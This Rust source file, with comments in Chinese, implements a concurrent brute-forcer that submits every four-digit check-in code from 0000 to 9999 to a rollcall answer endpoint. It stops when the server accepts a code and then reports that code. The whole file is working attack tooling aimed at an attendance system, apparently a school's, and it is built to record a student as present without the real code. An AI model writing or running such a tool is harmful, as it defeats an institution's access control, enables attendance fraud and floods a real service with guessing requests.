// src/rollcall/bruteforce.rs

use super::endpoint::{AnswerEndpoint, is_accepted};
use crate::{
    constants,
    models::{BruteForceReport, CodeGuess, GuessResult, SearchOutcome},
};
use futures::future::join_all;
use indicatif::ProgressBar;
use log::{debug, info, warn};
use std::{
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering},
    },
    time::Duration,
};
use tokio::{sync::Semaphore, time::Instant};

/// 单轮爆破内共享的一次性取消标志。
///
/// 每轮爆破新建一个，不在多轮之间复用。置位是幂等的，
/// 并发多次调用 [`CancellationSignal::set`] 只有一次会返回 `true`。
#[derive(Debug, Clone, Default)]
pub struct CancellationSignal(Arc<AtomicBool>);

impl CancellationSignal {
    pub fn new() -> Self {
        Self::default()
    }

    /// 置位；仅当本次调用完成了从未置位到置位的转换时返回 `true`。
    pub fn set(&self) -> bool {
        !self.0.swap(true, Ordering::AcqRel)
    }

    pub fn is_set(&self) -> bool {
        self.0.load(Ordering::Acquire)
    }
}

/// 在有限并发下穷举 `0000`-`9999`，找到正确签到码后停止派发新的请求。
pub struct BruteForcer {
    endpoint: Arc<dyn AnswerEndpoint>,
    concurrency: usize,
    deadline: Duration,
    interrupt: Arc<AtomicBool>,
    progress: ProgressBar,
}

/// 一轮爆破中所有 worker 共享的状态，只借用，不跨轮存活。
struct RunState<'a> {
    endpoint: &'a dyn AnswerEndpoint,
    gate: &'a Semaphore,
    signal: &'a CancellationSignal,
    progress: &'a ProgressBar,
    interrupt: &'a AtomicBool,
    /// `None` 表示总时限大到无法表示，视为不限时
    deadline: Option<Instant>,
    deadline_hit: &'a AtomicBool,
    rollcall_id: u64,
    device_id: &'a str,
}

impl RunState<'_> {
    /// 已命中、已超出总时限或用户已中断时，不再发出新请求。
    fn should_stop_dispatch(&self) -> bool {
        if self.signal.is_set() || self.interrupt.load(Ordering::Relaxed) {
            return true;
        }
        if self.deadline.is_some_and(|deadline| Instant::now() >= deadline) {
            self.deadline_hit.store(true, Ordering::Relaxed);
            return true;
        }
        false
    }
}

impl BruteForcer {
    pub fn new(endpoint: Arc<dyn AnswerEndpoint>, concurrency: usize) -> Self {
        Self {
            endpoint,
            // 许可数超过签到码总数没有意义
            concurrency: concurrency.clamp(1, usize::from(constants::bruteforce::CODE_SPACE)),
            deadline: Duration::from_secs(constants::bruteforce::DEFAULT_DEADLINE_SECS),
            interrupt: Arc::new(AtomicBool::new(false)),
            progress: ProgressBar::hidden(),
        }
    }

    pub fn with_deadline(mut self, deadline: Duration) -> Self {
        self.deadline = deadline;
        self
    }

    /// 进程级的 Ctrl+C 标志，置位后与超时一样只停止派发。
    pub fn with_interrupt(mut self, interrupt: Arc<AtomicBool>) -> Self {
        self.interrupt = interrupt;
        self
    }

    pub fn with_progress(mut self, progress: ProgressBar) -> Self {
        self.progress = progress;
        self
    }

    pub fn concurrency(&self) -> usize {
        self.concurrency
    }

    pub async fn run(&self, rollcall_id: u64, device_id: &str) -> BruteForceReport {
        let signal = CancellationSignal::new();
        let gate = Semaphore::new(self.concurrency);
        let deadline_hit = AtomicBool::new(false);
        let started = Instant::now();
        let state = RunState {
            endpoint: self.endpoint.as_ref(),
            gate: &gate,
            signal: &signal,
            progress: &self.progress,
            interrupt: &self.interrupt,
            deadline: started.checked_add(self.deadline),
            deadline_hit: &deadline_hit,
            rollcall_id,
            device_id,
        };

        info!(
            "开始爆破签到 {}，设备 ID: {}，并发上限: {}，总时限: {:?}",
            rollcall_id, device_id, self.concurrency, self.deadline
        );
        self.progress
            .set_length(u64::from(constants::bruteforce::CODE_SPACE));
        self.progress.set_message("尝试中...");

        // 一次性创建全部 10000 个任务，并发上限完全由信号量控制
        let results = join_all(CodeGuess::all().map(|code| try_code(&state, code))).await;

        self.progress.finish_and_clear();
        let report = aggregate(
            &results,
            started.elapsed(),
            deadline_hit.load(Ordering::Relaxed),
            self.interrupt.load(Ordering::Relaxed),
        );
        info!(
            "爆破结束: {:?}，已发送 {}，跳过 {}，出错 {}，耗时 {:?}",
            report.outcome, report.dispatched, report.skipped, report.errored, report.elapsed
        );
        report
    }
}

/// 尝试单个签到码。无论结果如何都推进一次进度。
async fn try_code(state: &RunState<'_>, code: CodeGuess) -> GuessResult {
    let result = attempt(state, code).await;
    state.progress.inc(1);
    result
}

async fn attempt(state: &RunState<'_>, code: CodeGuess) -> GuessResult {
    if state.signal.is_set() {
        return GuessResult::Skipped;
    }
    let Ok(_permit) = state.gate.acquire().await else {
        return GuessResult::Skipped;
    };
    // 排队期间可能已有其他 worker 命中
    if state.should_stop_dispatch() {
        return GuessResult::Skipped;
    }

    match state
        .endpoint
        .submit_number(state.rollcall_id, state.device_id, code)
        .await
    {
        Ok(response) if is_accepted(&response) => {
            if state.signal.set() {
                state.progress.set_message(format!("已命中 {}", code));
            }
            debug!("签到码 {} 命中，响应: {}", code, response);
            GuessResult::Found(code)
        }
        Ok(_) => GuessResult::Miss,
        Err(e) => {
            debug!("签到码 {} 请求失败，按未命中处理: {}", code, e);
            GuessResult::Errored(e.to_string())
        }
    }
}

/// 按签到码顺序扫描结果，第一个命中即为本轮结果。
fn aggregate(
    results: &[GuessResult],
    elapsed: Duration,
    deadline_hit: bool,
    interrupted: bool,
) -> BruteForceReport {
    let mut outcome = SearchOutcome::NotFound;
    let mut found: usize = 0;
    let mut dispatched = 0;
    let mut skipped = 0;
    let mut errored = 0;

    for result in results {
        match result {
            GuessResult::Found(code) => {
                dispatched += 1;
                found += 1;
                if outcome == SearchOutcome::NotFound {
                    outcome = SearchOutcome::Found(*code);
                }
            }
            GuessResult::Miss => dispatched += 1,
            GuessResult::Errored(_) => {
                dispatched += 1;
                errored += 1;
            }
            GuessResult::Skipped => skipped += 1,
        }
    }

    let extra_matches = found.saturating_sub(1);
    if extra_matches > 0 {
        warn!(
            "服务端接受了 {} 个签到码，仅采用第一个: {:?}",
            found, outcome
        );
    }
    if errored > 0 {
        warn!("{} 个签到码请求出错，已按未命中处理。", errored);
    }

    BruteForceReport {
        outcome,
        dispatched,
        skipped,
        errored,
        extra_matches,
        deadline_hit,
        interrupted,
        elapsed,
    }
}
